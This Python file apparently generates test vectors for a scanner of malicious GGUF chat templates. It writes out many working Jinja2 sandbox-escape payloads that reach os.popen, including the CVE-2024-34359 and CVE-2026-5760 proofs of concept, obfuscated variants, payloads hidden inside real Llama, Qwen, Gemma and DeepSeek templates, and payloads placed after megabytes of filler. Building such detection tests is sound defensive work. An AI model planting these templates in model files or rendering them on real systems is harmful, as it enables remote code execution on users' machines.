"""Hostile chat templates, and class `template` (every real and hostile
template in a GGUF's `tokenizer.chat_template`).

Each hostile template is text written here, never rendered. Every entry of
tests/vectors/templates/hostile/index.json gives the technique, the
advisory it reproduces (if any), the expected severity (error for reaching
Python internals, i.e. code execution in any runtime that renders the
template unsandboxed; warning for what is only unusual) and why.

Sources of the advisory shapes:
* CVE-2024-34359 (GHSA-56xg-wfcc-g829, llama-cpp-python < 0.2.72 rendered
  GGUF chat templates with jinja2.Environment): the public proof of concept
  walks ().__class__.__base__.__subclasses__() to a `warnings` class and
  calls x()._module.__builtins__['__import__']('os').popen(...).
* CVE-2026-5760 (CERT/CC VU#915947, SGLang's rerank and tiktoken paths
  rendered tokenizer.chat_template unsandboxed; sgl-project/sglang pull
  requests 23660 and 25009 quote the proof of concept): a Qwen3-reranker
  GGUF whose template is 'The answer can only be "yes" or "no".' followed by
  {{ lipsum.__globals__["os"].popen(cmd).read() }} and a message loop.
The generic techniques are the Jinja2 sandbox escapes the issues list.
"""
import os

from common import CMD, dump_json, sha256

CLS = "template"
SGLANG_PAYLOAD = ('The answer can only be "yes" or "no".\n{{ lipsum.__globals__["os"].popen("' + CMD
                  + '").read() }}{% for message in messages %}{{ message["content"] }}{% endfor %}')
LOOP = "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
POPEN = ".popen('" + CMD + "').read()"
LARGE = 4 * 1024 * 1024  # "multi-megabyte": larger than any real template by two orders of magnitude

ERROR, WARNING, NONE = "error", "warning", "none"
RCE = ("reaches Python internals from the template: remote code execution in every runtime that renders "
       "it without a sandbox (llama-cpp-python < 0.2.72, SGLang before the CVE-2026-5760 fix, any "
       "jinja2.Environment)")

# (file stem, template, technique, advisory, severity, why)
HOSTILE = [
    ("cve-2024-34359-subclasses-warning",
     "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
     "{{ x()._module.__builtins__['__import__']('os').popen(\"" + CMD + "\") }}{% endif %}{% endfor %}" + LOOP,
     "().__class__.__base__.__subclasses__() to a warnings class, then _module.__builtins__['__import__']",
     "CVE-2024-34359", ERROR, RCE),
    ("sglang-cve-2026-5760-lipsum-globals", SGLANG_PAYLOAD,
     "lipsum.__globals__[\"os\"].popen(...) in a Qwen3-reranker style template",
     "CVE-2026-5760", ERROR, RCE),
    ("dunder-class-mro-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}" + LOOP,
     "''.__class__.__mro__[1].__subclasses__(): every class in the process", None, ERROR, RCE),
    ("dunder-mro-method", "{{ ''.__class__.mro()[1].__subclasses__() }}" + LOOP,
     ".mro() method instead of __mro__", None, ERROR, RCE),
    ("cycler-init-globals-os", "{{ cycler.__init__.__globals__.os" + POPEN + " }}" + LOOP,
     "cycler.__init__.__globals__.os", None, ERROR, RCE),
    ("joiner-init-globals-os", "{{ joiner.__init__.__globals__.os" + POPEN + " }}" + LOOP,
     "joiner.__init__.__globals__.os", None, ERROR, RCE),
    ("namespace-init-globals-os", "{{ namespace.__init__.__globals__.os" + POPEN + " }}" + LOOP,
     "namespace.__init__.__globals__.os", None, ERROR, RCE),
    ("lipsum-globals-builtins-import",
     "{{ lipsum.__globals__['__builtins__']['__import__']('os')" + POPEN + " }}" + LOOP,
     "lipsum.__globals__['__builtins__']['__import__']", None, ERROR, RCE),
    ("lipsum-globals-builtins-eval",
     "{{ lipsum.__globals__.__builtins__.eval(\"__import__('os').system('" + CMD + "')\") }}" + LOOP,
     "lipsum.__globals__.__builtins__.eval", None, ERROR, RCE),
    ("self-templatereference-globals",
     "{{ self.__init__.__globals__.__builtins__.__import__('os')" + POPEN + " }}" + LOOP,
     "self (the TemplateReference) .__init__.__globals__", None, ERROR, RCE),
    ("self-private-context-cycler",
     "{{ self._TemplateReference__context.cycler.__init__.__globals__.os" + POPEN + " }}" + LOOP,
     "self._TemplateReference__context reaches the context's globals", None, ERROR, RCE),
    ("range-class-base-subclasses", "{{ range.__class__.__base__.__subclasses__() }}" + LOOP,
     "range (a global) .__class__.__base__.__subclasses__()", None, ERROR, RCE),
    ("dict-base-subclasses", "{{ dict.__base__.__subclasses__() }}" + LOOP,
     "dict (a global) .__base__.__subclasses__()", None, ERROR, RCE),
    ("dict-mro-last", "{{ dict.mro()[-1].__subclasses__() }}" + LOOP,
     "dict.mro()[-1]: object, then its subclasses", None, ERROR, RCE),
    ("config-class-init-globals",
     "{{ config.__class__.__init__.__globals__['os']" + POPEN + " }}" + LOOP,
     "Flask-style config object .__class__.__init__.__globals__", None, ERROR, RCE),
    ("request-application-globals",
     "{{ request.application.__globals__.__builtins__.__import__('os')" + POPEN + " }}" + LOOP,
     "Flask-style request.application.__globals__", None, ERROR, RCE),
    ("raise-exception-globals",
     "{{ raise_exception.__globals__['__builtins__']['__import__']('os')" + POPEN + " }}" + LOOP,
     "raise_exception, the Python function runtimes (transformers, llama-cpp-python) pass to chat templates, "
     ".__globals__", None, ERROR, RCE),
    ("strftime-now-globals",
     "{{ strftime_now.__globals__['__builtins__']['__import__']('os')" + POPEN + " }}" + LOOP,
     "strftime_now, a Python function chat-template runtimes provide, .__globals__", None, ERROR, RCE),
    ("macro-init-globals",
     "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__.__builtins__.__import__('os')" + POPEN + " }}"
     + LOOP, "a template's own macro object .__init__.__globals__", None, ERROR, RCE),
    ("loop-object-globals",
     "{% for message in messages %}{{ loop.__init__.__globals__.__builtins__.__import__('os')" + POPEN
     + " }}{% endfor %}", "the for-loop's loop object .__init__.__globals__", None, ERROR, RCE),
    ("attr-filter-literal",
     "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}" + LOOP,
     "|attr('__class__') with literal dunder names", None, ERROR, RCE),
    ("attr-concat-plus",
     "{{ ()|attr('__cl'+'ass__')|attr('__ba'+'se__')|attr('__subcl'+'asses__')() }}" + LOOP,
     "|attr('__cl'+'ass__'): names built by + concatenation", None, ERROR, RCE),
    ("attr-concat-multiply",
     "{{ ()|attr('_'*2+'class'+'_'*2)|attr('_'*2+'base'+'_'*2) }}" + LOOP,
     "|attr('_'*2+'class'+'_'*2): underscores by string repetition", None, ERROR, RCE),
    ("attr-hex-escape",
     "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
     "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}" + LOOP,
     "|attr('\\x5f\\x5fclass\\x5f\\x5f'): underscores as \\x5f escapes in a Jinja string literal", None, ERROR, RCE),
    ("attr-unicode-escape",
     "{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f')|attr('\\u005f\\u005fbase\\u005f\\u005f') }}" + LOOP,
     "|attr('\\u005f\\u005fclass...'): underscores as \\u005f escapes", None, ERROR, RCE),
    ("attr-octal-escape",
     "{{ ()|attr('\\137\\137class\\137\\137') }}" + LOOP,
     "|attr('\\137\\137class\\137\\137'): underscores as octal escapes", None, ERROR, RCE),
    ("tilde-concat-set",
     "{% set c = '__cla' ~ 'ss__' %}{% set b = '__ba' ~ 'se__' %}{{ ()|attr(c)|attr(b) }}" + LOOP,
     "names built with ~ into variables, then |attr(variable)", None, ERROR, RCE),
    ("format-filter-built-name",
     "{{ ()|attr('%sclass%s'|format('__', '__')) }}" + LOOP,
     "|attr('%sclass%s'|format('__','__')): name built by the format filter", None, ERROR, RCE),
    ("str-format-method-built-name",
     "{{ ()|attr('{0}class{0}'.format('__')) }}" + LOOP,
     "|attr('{0}class{0}'.format('__')): name built by str.format", None, ERROR, RCE),
    ("join-filter-built-name",
     "{{ ()|attr(['_', '_', 'class', '_', '_']|join) }}" + LOOP,
     "|attr([...]|join): name joined from a list", None, ERROR, RCE),
    ("reverse-filter-built-name", "{{ ()|attr('__ssalc__'|reverse) }}" + LOOP,
     "|attr('__ssalc__'|reverse): name reversed", None, ERROR, RCE),
    ("replace-filter-built-name", "{{ ()|attr('XXclassXX'|replace('X', '_')) }}" + LOOP,
     "|attr('XXclassXX'|replace('X','_')): name by replace", None, ERROR, RCE),
    ("slice-built-name", "{{ ()|attr('x__class__x'[1:-1]) }}" + LOOP,
     "|attr('x__class__x'[1:-1]): name by slicing", None, ERROR, RCE),
    ("map-attribute-kwarg", "{{ [()]|map(attribute='__class__')|list }}" + LOOP,
     "[()]|map(attribute='__class__'): attribute access through the map filter", None, ERROR, RCE),
    ("map-attr-filter", "{{ [()]|map('attr', '__class__')|first }}" + LOOP,
     "[()]|map('attr', '__class__'): the attr filter applied by map", None, ERROR, RCE),
    ("subscript-globals", "{{ lipsum['__globals__']['os']" + POPEN + " }}" + LOOP,
     "lipsum['__globals__']: subscript falls back to attribute lookup", None, ERROR, RCE),
    ("subscript-class", "{{ ()['__class__']['__base__']['__subclasses__']() }}" + LOOP,
     "()['__class__']: dunder names as subscripts", None, ERROR, RCE),
    ("attr-name-from-input",
     "{{ ()|attr(messages[0]['content'])|attr(messages[1]['content']) }}" + LOOP,
     "|attr(messages[0]['content']): the attribute name comes from the request at render time",
     None, ERROR, "an attribute name no scanner can see: any dunder the caller sends is reachable; " + RCE),
    ("getattribute-method", "{{ ().__getattribute__('__class__') }}" + LOOP,
     ".__getattribute__('__class__')", None, ERROR, RCE),
    ("dict-dunder", "{{ cycler.__dict__ }}{{ cycler.__init__.__code__ }}" + LOOP,
     "__dict__ and __code__ of a global", None, ERROR, RCE),
    ("set-chain", "{% set g = cycler.__init__.__globals__ %}{% set o = g.os %}{{ o" + POPEN + " }}" + LOOP,
     "the globals reached in one {% set %}, used in the next", None, ERROR, RCE),
    ("with-block", "{% with x = lipsum.__globals__ %}{{ x.os" + POPEN + " }}{% endwith %}" + LOOP,
     "{% with x = lipsum.__globals__ %}", None, ERROR, RCE),
    ("whitespace-around-dots",
     "{{ cycler\n  . __init__\n  . __globals__\n  . os" + POPEN + " }}" + LOOP,
     "spaces and newlines around the dots: cycler . __init__ . __globals__", None, ERROR, RCE),
    ("builtins-exec", "{{ cycler.__init__.__globals__.__builtins__.exec(\"__import__('os').system('" + CMD
     + "')\") }}" + LOOP, "__builtins__.exec", None, ERROR, RCE),
    ("include-statement", "{% include 'system_prompt.jinja' %}" + LOOP,
     "{% include %} of another template", None, WARNING,
     "loads another template by name: unusual in a chat template (runtimes have no loader, so it fails), "
     "not code execution by itself"),
    ("import-statement", "{% import 'macros.jinja' as m %}{{ m.header() }}" + LOOP,
     "{% import %} of a macro file", None, WARNING, "unusual, not code execution by itself"),
    ("from-import-statement", "{% from 'macros.jinja' import header %}{{ header() }}" + LOOP,
     "{% from ... import %}", None, WARNING, "unusual, not code execution by itself"),
    ("extends-statement", "{% extends 'base.jinja' %}{% block body %}" + LOOP + "{% endblock %}",
     "{% extends %}", None, WARNING, "unusual, not code execution by itself"),
    # Decoys: dunder-looking text that is not reached from the template.
    ("decoy-dunder-in-comment", "{# do not use __class__ or cycler.__init__.__globals__ here #}" + LOOP,
     "dunder names inside a Jinja comment", None, NONE, "comments are not executed"),
    ("decoy-dunder-in-string-output",
     "{{ 'Python packages need an __init__.py; see os.popen docs' }}" + LOOP,
     "dunder names inside a string literal that is only printed", None, NONE,
     "a string literal printed as text reaches nothing"),
    ("decoy-raw-block", "{% raw %}{{ cycler.__init__.__globals__.os.popen('id') }}{% endraw %}" + LOOP,
     "a payload inside {% raw %}: printed as text, never evaluated", None, NONE, "raw blocks are literal text"),
    ("decoy-namespace-use",
     "{% set ns = namespace(found=false, __note='x') %}{% for m in messages %}{% set ns.found = true %}"
     "{% endfor %}{{ ns.found }}",
     "namespace() used as real templates use it, with a keyword that merely looks like a dunder",
     None, NONE, "namespace(...) and ns.attr assignment are what Qwen3/Llama templates do"),
]

# Real templates that get a payload inserted: (real file, marker to insert
# before, payload, technique, advisory).
INSERTED = [
    ("meta-llama-Llama-3.1-8B-Instruct.jinja", "{%- if tools is not none and not tools_in_user_message %}",
     "{{- cycler.__init__.__globals__.os" + POPEN + " }}", "cycler.__init__.__globals__ in Llama 3.1's tool branch",
     None),
    ("Qwen-Qwen2.5-7B-Instruct.jinja", "{%- for message in messages %}",
     "{%- set c = '__cl' ~ 'ass__' %}{{- ()|attr(c)|attr('__ba'+'se__')|attr('__subcl'+'asses__')() }}",
     "names built by ~ and + then |attr, before Qwen2.5's message loop", None),
    ("google-gemma-2-2b-it.jinja", "{% for message in messages %}",
     '{{ lipsum.__globals__["os"].popen("' + CMD + '").read() }}',
     "the SGLang proof-of-concept expression inside Gemma 2's template", "CVE-2026-5760"),
    ("deepseek-ai-DeepSeek-R1-Distill-Qwen-32B.jinja", "{%- for message in messages -%}",
     "{%- for x in ().__class__.__base__.__subclasses__() %}{%- if 'warning' in x.__name__ %}"
     "{{- x()._module.__builtins__['__import__']('os').popen('" + CMD + "') }}{%- endif %}{%- endfor %}",
     "the CVE-2024-34359 proof-of-concept loop inside DeepSeek R1's template", "CVE-2024-34359"),
    ("Qwen-Qwen3-0.6B.jinja", "{%- for message in messages %}",
     "{%- set ns2 = namespace(x=namespace.__init__.__globals__) %}{{- ns2.x.os" + POPEN + " }}",
     "namespace.__init__.__globals__ hidden in a namespace(...) call among Qwen3's real namespace uses", None),
]


def real_dir(repo):
    return os.path.join(repo, "tests", "vectors", "templates", "real")


def hostile_dir(repo):
    return os.path.join(repo, "tests", "vectors", "templates", "hostile")


def read_real(repo, name):
    with open(os.path.join(real_dir(repo), name), "rb") as f:
        return f.read().decode("utf-8")


def large_filler(repo):
    """A multi-megabyte template made of real template text: the Llama 3.1
    template's body repeated inside a Jinja comment block would be skipped by
    a parser, so the filler is a long system-prompt string literal instead."""
    base = read_real(repo, "meta-llama-Llama-3.1-8B-Instruct.jinja")
    sentence = ("You are a helpful assistant. Answer the question using only the documents provided; "
                "cite each document by its number. ")
    n = LARGE // len(sentence) + 1
    return "{%- set long_system_prompt = \"" + sentence * n + "\" %}\n" + base


def hostile_templates(repo):
    """Every hostile template: list of index entries, each with its text under "text"."""
    out = []

    def add(stem, text, technique, advisory, severity, why, committed=True, based_on=None):
        data = text.encode("utf-8")
        out.append({"file": stem + ".jinja", "technique": technique, "advisory": advisory,
                    "expected_severity": severity,
                    "verdict": {ERROR: "malicious", WARNING: "warning", NONE: "benign"}[severity],
                    "why": why, "based_on": based_on, "committed": committed,
                    "size": len(data), "sha256": sha256(data), "text": text})

    for stem, text, technique, advisory, severity, why in HOSTILE:
        add(stem, text, technique, advisory, severity, why)
    for real, marker, payload, technique, advisory in INSERTED:
        text = read_real(repo, real)
        at = text.find(marker)
        if at < 0:
            raise ValueError(f"{real}: marker {marker!r} not found")
        stem = "real-with-payload-" + real[:-len(".jinja")]
        add(stem, text[:at] + payload + text[at:], technique + " (the rest of the template is real)",
            advisory, ERROR, RCE, based_on=real)
    filler = large_filler(repo)
    add("very-long-benign", filler, f"a real template after a {LARGE // 1048576} MiB system-prompt literal",
        None, WARNING, "unusual size (real templates are under 20 KiB), no code", committed=False,
        based_on="meta-llama-Llama-3.1-8B-Instruct.jinja")
    add("very-long-payload-at-end", filler + "{{ cycler.__init__.__globals__.os" + POPEN + " }}",
        f"cycler.__init__.__globals__ at the very end of a {LARGE // 1048576} MiB template",
        None, ERROR, RCE + "; a scanner that reads only a prefix misses it", committed=False,
        based_on="meta-llama-Llama-3.1-8B-Instruct.jinja")
    add("very-long-payload-at-end-sglang", filler + SGLANG_PAYLOAD,
        f"the SGLang payload after a {LARGE // 1048576} MiB template", "CVE-2026-5760", ERROR,
        RCE + "; a scanner that reads only a prefix misses it", committed=False,
        based_on="meta-llama-Llama-3.1-8B-Instruct.jinja")
    return out


def hostile_index(hostile):
    return {
        "about": "Hostile chat templates, generated by tests/tools/threat_corpus/templates.py (never rendered). "
                 "expected_severity: error = reaches Python internals (code execution when rendered "
                 "unsandboxed); warning = unusual, not code execution; none = decoy a scanner must not flag. "
                 "Entries with committed=false are multi-megabyte and are generated at test time by "
                 "generate.py into OUTDIR/templates/hostile/.",
        "templates": [{k: v for k, v in e.items() if k != "text"} for e in hostile],
    }


def write_hostile(repo, hostile):
    """Rewrite tests/vectors/templates/hostile/ (committed templates and the index)."""
    d = hostile_dir(repo)
    os.makedirs(d, exist_ok=True)
    for name in os.listdir(d):
        if name.endswith(".jinja"):
            os.remove(os.path.join(d, name))
    for e in hostile:
        if e["committed"]:
            with open(os.path.join(d, e["file"]), "wb") as f:
                f.write(e["text"].encode("utf-8"))
    dump_json(os.path.join(d, "index.json"), hostile_index(hostile))


def write_hostile_into(out, hostile):
    """Every hostile template (large ones included) under OUT/templates/hostile/."""
    d = os.path.join(out, "templates", "hostile")
    os.makedirs(d, exist_ok=True)
    for e in hostile:
        with open(os.path.join(d, e["file"]), "wb") as f:
            f.write(e["text"].encode("utf-8"))
    dump_json(os.path.join(d, "index.json"), hostile_index(hostile))


def build(corpus, repo, hostile):
    """Class `template`: each real and each hostile template as the
    tokenizer.chat_template of a minimal GGUF written by gguf-py."""
    import json  # noqa: PLC0415

    import rawmodel  # noqa: PLC0415
    with open(os.path.join(real_dir(repo), "index.json"), encoding="utf-8") as f:
        real = json.load(f)["templates"]
    tensors = rawmodel.small_tensors()
    for e in real:
        text = read_real(repo, e["file"])
        corpus.add_file(f"template/real/{e['file'][:-len('.jinja')]}.gguf",
                        rawmodel.gguf_writer(tensors, template=text), CLS,
                        f"real {e['family']} chat template ({e['file']}) as tokenizer.chat_template",
                        "benign", "a real model family's template, as published", commit=False)
    for e in hostile:
        codes = {"error": ["template.code_execution"],
                 "warning": ["template.very_long"] if e["file"].startswith("very-long")
                 else ["template.loads_template"]}.get(e["expected_severity"], [])
        corpus.add_file(f"template/hostile/{e['file'][:-len('.jinja')]}.gguf",
                        rawmodel.gguf_writer(tensors, template=e["text"]), CLS,
                        e["technique"] + " (tokenizer.chat_template)", e["verdict"], e["why"],
                        e["advisory"], codes, commit=False)
